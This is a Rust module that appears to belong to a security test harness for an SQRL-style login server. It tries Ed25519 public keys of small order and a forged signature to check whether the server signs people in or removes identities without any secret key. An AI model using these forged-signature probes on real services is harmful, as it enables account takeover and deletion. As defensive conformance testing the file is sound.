//! Attack 12: public keys of small order, for which signatures need no secret.

use super::trial::{AttackResult, IdentityState, Trial, refused, worked};
use crate::base64url;
use crate::keys::{Idk, Vuk};
use crate::wire::{Form, Tif};

/// Returns points of small order, two of them in non-canonical encodings.
fn points() -> [(&'static str, [u8; 32]); 5] {
    let mut one = [0; 32];
    one[0] = 1;
    // -1 is p - 1.
    let mut minus_one = [0xff; 32];
    (minus_one[0], minus_one[31]) = (0xec, 0x7f);
    // 1 is also p + 1.
    let mut one_again = [0xff; 32];
    (one_again[0], one_again[31]) = (0xee, 0x7f);
    // 1 with a sign bit, although x is 0.
    let mut signed_one = one;
    signed_one[31] = 0x80;
    [
        ("of order 1", one),
        ("of order 2", minus_one),
        ("of order 4", [0; 32]),
        ("of order 1, not canonical", one_again),
        ("of order 1, with a sign", signed_one),
    ]
}

/// Returns a signature with R = identity and S = 0. It verifies if the hash of the message
/// times the key is the identity: for one message in n, if the key has order n.
fn anybodys() -> String {
    let mut signature = [0; 64];
    signature[0] = 1;
    base64url::encode(signature)
}

/// Enough attempts for a key of order 4.
const ATTEMPTS: usize = 12;

/// 12a: an identity that needs no secret.
pub(super) async fn idk(trial: &mut Trial<'_>) -> AttackResult {
    for (which, point) in points() {
        for attempt in 0..ATTEMPTS {
            let visit = trial.visit().await?;
            let anybody = trial.new_identity();
            let mut client = visit.client(&anybody);
            let pair = crate::keys::UnlockPair::generate(anybody.ilk());
            let params = client.params_for("ident", Idk::from_bytes(point)).with_pair(&pair);
            let params = params.with("attempt", &attempt.to_string());
            let form = client.unsigned(&params).with("ids", &anybodys());
            let answer = client.send(&form).await?;
            trial.record_answer(
                &format!("ident with an idk {which}, signed without a key"),
                &answer,
            );
            let arrived = trial.landing_page(&visit, answer.url()).await?.is_some();
            if arrived || answer.is_success() {
                return worked(format!("an idk {which} signs in without any key"));
            }
            if which.contains("order 1") {
                break;
            }
        }
    }
    refused(format!("{}; the browser is not signed in", trial.answers()))
}

/// 12b: an identity that anybody can remove.
pub(super) async fn vuk(trial: &mut Trial<'_>) -> AttackResult {
    for (which, point) in points() {
        let owner = trial.new_identity();
        let mut client = trial.visit().await?.client(&owner);
        let vuk = Vuk::from_bytes(point).to_string();
        let form = client.signed(&client.introducing("ident").altered("vuk", &vuk));
        let answer = client.send(&form).await?;
        trial.record_answer(&format!("ident with a vuk {which}"), &answer);
        if trial.state(&owner).await? == IdentityState::Unknown {
            continue;
        }
        // The site has stored the key. Does it accept a signature without a secret?
        for attempt in 0..ATTEMPTS {
            let mut client = trial.visit().await?.client(&owner);
            let params = client.params("remove").with("attempt", &attempt.to_string());
            let form: Form = client.signed(&params).with("urs", &anybodys());
            let answer = client.send(&form).await?;
            trial.record_answer("remove, unlocked without a key", &answer);
            if answer.is_success() && !answer.has(Tif::CURRENT) {
                return worked(format!("with a vuk {which} anybody removes the identity"));
            }
        }
        trial.record("the key is stored, and unlocks nothing".to_owned());
    }
    refused(format!("{}; nothing is unlocked without a key", trial.answers()))
}
